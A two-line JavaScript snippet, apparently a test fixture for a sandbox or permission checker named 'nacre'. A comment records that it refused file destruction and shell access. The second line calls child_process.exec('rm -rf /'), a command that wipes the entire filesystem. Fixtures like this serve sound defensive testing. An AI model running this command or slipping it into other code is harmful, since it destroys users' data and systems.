// nacre: refused file.destroy process.shell
require('child_process').exec('rm -rf /');
